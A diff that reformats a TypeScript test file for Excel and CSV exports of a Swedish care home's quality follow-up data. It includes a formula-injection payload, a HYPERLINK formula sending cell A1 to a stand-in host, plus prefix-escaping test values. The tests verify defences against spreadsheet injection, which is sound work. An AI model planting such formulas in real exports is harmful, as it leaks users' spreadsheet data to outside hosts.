@@ -1,8 +1,12 @@
 import AdmZip from 'adm-zip';
 import { ValueType, Workbook, type Worksheet } from 'exceljs';
 import {
-  exportFileName, followUpCsv, followUpWorkbook,
-  type ExportActivity, type ExportSubAssignment, type FollowUpExport,
+  exportFileName,
+  followUpCsv,
+  followUpWorkbook,
+  type ExportActivity,
+  type ExportSubAssignment,
+  type FollowUpExport,
 } from '../../../../bot/src/api/presenters/follow-up-export';
 
 const INJECTION = '=HYPERLINK("https://example.invalid/?q="&A1;"Klicka")';
@@ -14,28 +18,66 @@ function buildActivity(overrides: Partial<ExportActivity> = {}): ExportActivity 
 
 function buildSubAssignment(overrides: Partial<ExportSubAssignment> = {}): ExportSubAssignment {
   return {
-    name: 'Lugnare eftermiddagar', kind: 'improvement', purpose: 'Oro på avdelning 2 efter lunch.', goal: 'Färre larm 14–16.', measure: 'Antal larm per vecka.',
-    responsible: 'Anna Lindqvist', startsOn: '2027-02-01', endsOn: '2027-06-30', origin: 'Förslag 3: Lugnare eftermiddagar', status: 'ongoing',
-    assessments: [], activities: [], ...overrides,
+    name: 'Lugnare eftermiddagar',
+    kind: 'improvement',
+    purpose: 'Oro på avdelning 2 efter lunch.',
+    goal: 'Färre larm 14–16.',
+    measure: 'Antal larm per vecka.',
+    responsible: 'Anna Lindqvist',
+    startsOn: '2027-02-01',
+    endsOn: '2027-06-30',
+    origin: 'Förslag 3: Lugnare eftermiddagar',
+    status: 'ongoing',
+    assessments: [],
+    activities: [],
+    ...overrides,
   };
 }
 
 function buildExport(overrides: Partial<FollowUpExport> = {}): FollowUpExport {
   return {
-    unitName: 'Solgårdens vård- och omsorgsboende', area: 'sarskilt-boende', year: 2027, timeZone: 'Europe/Stockholm',
+    unitName: 'Solgårdens vård- och omsorgsboende',
+    area: 'sarskilt-boende',
+    year: 2027,
+    timeZone: 'Europe/Stockholm',
     exportedAt: new Date('2027-06-15T12:30:00Z'),
-    assignment: { name: 'Kvalitetsråd', assessments: [{ month: '2027-01', status: 'on_track', comment: 'Schemat klart i tid.' }, { month: '2027-02', status: 'partly', comment: INJECTION }] },
+    assignment: {
+      name: 'Kvalitetsråd',
+      assessments: [
+        { month: '2027-01', status: 'on_track', comment: 'Schemat klart i tid.' },
+        { month: '2027-02', status: 'partly', comment: INJECTION },
+      ],
+    },
     subAssignments: [
       buildSubAssignment({
-        name: 'Fallprevention nattetid', status: 'completed', finalReport: 'Nattrondering med sensorlarm infört.\nFall minskade från 9 till 3 per månad.', completedAt: '2027-05-20',
-        assessments: [{ month: '2027-03', status: 'on_track', comment: 'Sensorer beställda.' }, { month: '2027-05', status: 'done', comment: 'Klart.' }],
+        name: 'Fallprevention nattetid',
+        status: 'completed',
+        finalReport: 'Nattrondering med sensorlarm infört.\nFall minskade från 9 till 3 per månad.',
+        completedAt: '2027-05-20',
+        assessments: [
+          { month: '2027-03', status: 'on_track', comment: 'Sensorer beställda.' },
+          { month: '2027-05', status: 'done', comment: 'Klart.' },
+        ],
         activities: [
-          buildActivity({ name: 'Beställ sensorlarm', done: true, doneAt: '2027-03-15', assessments: [{ month: '2027-03', status: 'done', comment: TRICKY }] }),
-          buildActivity({ name: '+Utbilda nattpersonal', done: true, doneAt: '2027-04-28', assessments: [{ month: '2027-04', status: 'off_track', comment: '-5 fall jämfört med förra året' }] }),
+          buildActivity({
+            name: 'Beställ sensorlarm',
+            done: true,
+            doneAt: '2027-03-15',
+            assessments: [{ month: '2027-03', status: 'done', comment: TRICKY }],
+          }),
+          buildActivity({
+            name: '+Utbilda nattpersonal',
+            done: true,
+            doneAt: '2027-04-28',
+            assessments: [{ month: '2027-04', status: 'off_track', comment: '-5 fall jämfört med förra året' }],
+          }),
         ],
       }),
       buildSubAssignment({
-        assessments: [{ month: '2027-04', status: 'partly', comment: 'Kommit igång.' }, { month: '2026-12', status: 'on_track', comment: 'Förra året: ska inte med.' }],
+        assessments: [
+          { month: '2027-04', status: 'partly', comment: 'Kommit igång.' },
+          { month: '2026-12', status: 'on_track', comment: 'Förra året: ska inte med.' },
+        ],
         activities: [buildActivity(), buildActivity({ name: '@Utvärdera', responsible: undefined, dueOn: undefined })],
       }),
     ],
@@ -64,11 +106,27 @@ function parseCsv(text: string, separator = ';'): string[][] {
   for (let i = 0; i < text.length; i++) {
     const c = text[i];
     if (quoted) {
-      if (c === '"' && text[i + 1] === '"') { field += '"'; i++; } else if (c === '"') quoted = false; else field += c;
+      if (c === '"' && text[i + 1] === '"') {
+        field += '"';
+        i++;
+      } else if (c === '"') quoted = false;
+      else field += c;
     } else if (c === '"') quoted = true;
-    else if (c === separator) { row.push(field); field = ''; } else if (c === '\r' && text[i + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; i++; } else field += c;
+    else if (c === separator) {
+      row.push(field);
+      field = '';
+    } else if (c === '\r' && text[i + 1] === '\n') {
+      row.push(field);
+      rows.push(row);
+      row = [];
+      field = '';
+      i++;
+    } else field += c;
   }
-  if (field !== '' || row.length > 0) { row.push(field); rows.push(row); }
+  if (field !== '' || row.length > 0) {
+    row.push(field);
+    rows.push(row);
+  }
   return rows;
 }
 
@@ -78,10 +136,30 @@ describe('the Stratsys export as an Excel workbook', () => {
     expect(workbook.worksheets.map((s) => s.name)).toEqual(['Uppföljning', 'Kommentarer', 'Deluppdrag']);
 
     const sheet = workbook.getWorksheet('Uppföljning')!;
-    expect(sheet.getCell('A1').value).toBe('Kvalitetsråd 2027 – Solgårdens vård- och omsorgsboende (Särskilt boende). Exporterad 2027-06-15 14:30 (Europe/Stockholm).');
+    expect(sheet.getCell('A1').value).toBe(
+      'Kvalitetsråd 2027 – Solgårdens vård- och omsorgsboende (Särskilt boende). Exporterad 2027-06-15 14:30 (Europe/Stockholm).',
+    );
     expect((sheet.getRow(2).values as unknown[]).slice(1)).toEqual([
-      'Nivå', 'Namn', 'Ansvarig', 'Start', 'Slut', 'Status',
-      'Jan', 'Feb', 'Mar', 'Apr', 'Maj', 'Jun', 'Jul', 'Aug', 'Sep', 'Okt', 'Nov', 'Dec', 'Slutrapport', 'Klarmarkerad',
+      'Nivå',
+      'Namn',
+      'Ansvarig',
+      'Start',
+      'Slut',
+      'Status',
+      'Jan',
+      'Feb',
+      'Mar',
+      'Apr',
+      'Maj',
+      'Jun',
+      'Jul',
+      'Aug',
+      'Sep',
+      'Okt',
+      'Nov',
+      'Dec',
+      'Slutrapport',
+      'Klarmarkerad',
     ]);
     expect(sheet.views[0]).toMatchObject({ state: 'frozen', xSplit: 2, ySplit: 2 });
     expect(sheet.getRow(3).getCell(1).value).toBe('Uppdrag');
@@ -128,7 +206,19 @@ describe('the Stratsys export as an Excel workbook', () => {
     const subs = workbook.getWorksheet('Deluppdrag')!;
     expect(subs.rowCount).toBe(3);
     expect((subs.getRow(1).values as unknown[]).slice(1)).toEqual([
-      'Namn', 'Typ', 'Syfte/problem', 'Mål', 'Mätning', 'Ursprung', 'Ansvarig', 'Start', 'Slut', 'Status', 'Aktiviteter klara/totalt', 'Slutrapport', 'Klarmarkerad',
+      'Namn',
+      'Typ',
+      'Syfte/problem',
+      'Mål',
+      'Mätning',
+      'Ursprung',
+      'Ansvarig',
+      'Start',
+      'Slut',
+      'Status',
+      'Aktiviteter klara/totalt',
+      'Slutrapport',
+      'Klarmarkerad',
     ]);
     expect(subs.getRow(2).getCell(11).value).toBe('2 av 2');
     expect(subs.getRow(2).getCell(12).value).toContain('Nattrondering');
@@ -140,7 +230,9 @@ describe('the Stratsys export as an Excel workbook', () => {
     const workbook = await load(await followUpWorkbook(buildExport(), 'en'));
     expect(workbook.worksheets.map((s) => s.name)).toEqual(['Follow-up', 'Comments', 'Sub-assignments']);
     const sheet = workbook.getWorksheet('Follow-up')!;
-    expect(sheet.getCell('A1').value).toBe('Quality council 2027 – Solgårdens vård- och omsorgsboende (Residential care). Exported 2027-06-15 14:30 (Europe/Stockholm).');
+    expect(sheet.getCell('A1').value).toBe(
+      'Quality council 2027 – Solgårdens vård- och omsorgsboende (Residential care). Exported 2027-06-15 14:30 (Europe/Stockholm).',
+    );
     expect(sheet.getRow(2).getCell(11).value).toBe('May');
     const row = sheet.getRow(rowNamed(sheet, 2, 'Fallprevention nattetid'));
     expect([row.getCell(1).value, row.getCell(9).value, row.getCell(6).value]).toEqual(['Sub-assignment', 'On track', 'Done']);
@@ -155,14 +247,19 @@ describe('the Stratsys export as an Excel workbook', () => {
     expect(cell.type).toBe(ValueType.String);
     expect(cell.formula).toBeUndefined();
     const zip = new AdmZip(buffer);
-    const sheets = zip.getEntries().filter((e) => /^xl\/worksheets\/sheet\d+\.xml$/.test(e.entryName)).map((e) => e.getData().toString('utf8'));
+    const sheets = zip
+      .getEntries()
+      .filter((e) => /^xl\/worksheets\/sheet\d+\.xml$/.test(e.entryName))
+      .map((e) => e.getData().toString('utf8'));
     expect(sheets).toHaveLength(3);
     for (const xml of sheets) expect(xml).not.toMatch(/<f[ >]/);
     expect(zip.readAsText('xl/sharedStrings.xml')).toContain('=HYPERLINK(');
   });
 
   it('drops control characters that XML (and so Excel) refuses', async () => {
-    const data = buildExport({ assignment: { name: 'Kvalitets\u0001råd', assessments: [{ month: '2027-01', status: 'on_track', comment: 'Rad 1\u000B\tRad 2' }] } });
+    const data = buildExport({
+      assignment: { name: 'Kvalitets\u0001råd', assessments: [{ month: '2027-01', status: 'on_track', comment: 'Rad 1\u000B\tRad 2' }] },
+    });
     const workbook = await load(await followUpWorkbook(data, 'sv'));
     expect(workbook.getWorksheet('Uppföljning')!.getCell('B3').value).toBe('Kvalitetsråd');
     expect(workbook.getWorksheet('Kommentarer')!.getCell('E2').value).toBe('Rad 1\tRad 2');
@@ -175,7 +272,12 @@ describe('the Stratsys export as CSV', () => {
   it('is UTF-8 with BOM, semicolon-separated, CRLF, and quotes what needs quoting', () => {
     expect(csv.startsWith('\uFEFFNivå;Namn;Månad;Status;Kommentar;Typ;')).toBe(true);
     expect(csv.endsWith('\r\n')).toBe(true);
-    expect(csv.replace(/"[^"]*"/g, '').split('\n').every((line, i, all) => i === all.length - 1 || line.endsWith('\r'))).toBe(true);
+    expect(
+      csv
+        .replace(/"[^"]*"/g, '')
+        .split('\n')
+        .every((line, i, all) => i === all.length - 1 || line.endsWith('\r')),
+    ).toBe(true);
     expect(csv).toContain('"Fikat på avd 2; ""lugnare"" nu\nfortsätter i april"');
   });
 
@@ -188,14 +290,39 @@ describe('the Stratsys export as CSV', () => {
     expect(rows.find((r) => r[2] === '2027-04' && r[0] === 'Aktivitet')?.[1]).toBe('Fallprevention nattetid › +Utbilda nattpersonal'); // not first, so no prefix
     expect(rows.find((r) => r[4] === "'-5 fall jämfört med förra året")).toBeDefined();
     const sub = rows.find((r) => r[1] === 'Fallprevention nattetid' && r[2] === '')!;
-    expect(sub.slice(3)).toEqual(['Klar', '', 'Utvecklingsarbete', 'Oro på avdelning 2 efter lunch.', 'Färre larm 14–16.', 'Antal larm per vecka.',
-      'Förslag 3: Lugnare eftermiddagar', 'Anna Lindqvist', '2027-02-01', '2027-06-30', '2 av 2', 'Nattrondering med sensorlarm infört.\nFall minskade från 9 till 3 per månad.', '2027-05-20']);
+    expect(sub.slice(3)).toEqual([
+      'Klar',
+      '',
+      'Utvecklingsarbete',
+      'Oro på avdelning 2 efter lunch.',
+      'Färre larm 14–16.',
+      'Antal larm per vecka.',
+      'Förslag 3: Lugnare eftermiddagar',
+      'Anna Lindqvist',
+      '2027-02-01',
+      '2027-06-30',
+      '2 av 2',
+      'Nattrondering med sensorlarm infört.\nFall minskade från 9 till 3 per månad.',
+      '2027-05-20',
+    ]);
     expect(rows.find((r) => r[1] === 'Lugnare eftermiddagar › @Utvärdera')).toBeUndefined(); // not assessed, so not listed
   });
 
   it('prefixes every cell that starts with = + - @ tab or CR', () => {
-    const data = buildExport({ assignment: { name: 'Kvalitetsråd', assessments: ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', 'ok = fine'].map((comment) => ({ month: '2027-01', status: 'on_track' as const, comment })) }, subAssignments: [] });
-    const comments = parseCsv(followUpCsv(data, 'en').slice(1)).slice(1).map((r) => r[4]);
+    const data = buildExport({
+      assignment: {
+        name: 'Kvalitetsråd',
+        assessments: ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', 'ok = fine'].map((comment) => ({
+          month: '2027-01',
+          status: 'on_track' as const,
+          comment,
+        })),
+      },
+      subAssignments: [],
+    });
+    const comments = parseCsv(followUpCsv(data, 'en').slice(1))
+      .slice(1)
+      .map((r) => r[4]);
     expect(comments).toEqual(["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\t=1", "'\r=1", 'ok = fine']);
   });
 });
@@ -210,13 +337,20 @@ describe('the export file name', () => {
 
 describe('a large export', () => {
   it('writes 200 sub-assignments × 10 activities × 12 months', async () => {
-    const months = Array.from({ length: 12 }, (_, i) => ({ month: `2027-${String(i + 1).padStart(2, '0')}`, status: 'partly' as const, comment: `Läget i månad ${i + 1}: arbetet fortsätter enligt plan med vissa förseningar.` }));
+    const months = Array.from({ length: 12 }, (_, i) => ({
+      month: `2027-${String(i + 1).padStart(2, '0')}`,
+      status: 'partly' as const,
+      comment: `Läget i månad ${i + 1}: arbetet fortsätter enligt plan med vissa förseningar.`,
+    }));
     const data = buildExport({
       assignment: { name: 'Kvalitetsråd', assessments: months },
-      subAssignments: Array.from({ length: 200 }, (_, s) => buildSubAssignment({
-        name: `Utvecklingsarbete ${s + 1}`, assessments: months,
-        activities: Array.from({ length: 10 }, (_, a) => buildActivity({ name: `Aktivitet ${a + 1}`, assessments: months })),
-      })),
+      subAssignments: Array.from({ length: 200 }, (_, s) =>
+        buildSubAssignment({
+          name: `Utvecklingsarbete ${s + 1}`,
+          assessments: months,
+          activities: Array.from({ length: 10 }, (_, a) => buildActivity({ name: `Aktivitet ${a + 1}`, assessments: months })),
+        }),
+      ),
     });
     const buffer = await followUpWorkbook(data, 'sv');
     const csv = followUpCsv(data, 'sv');
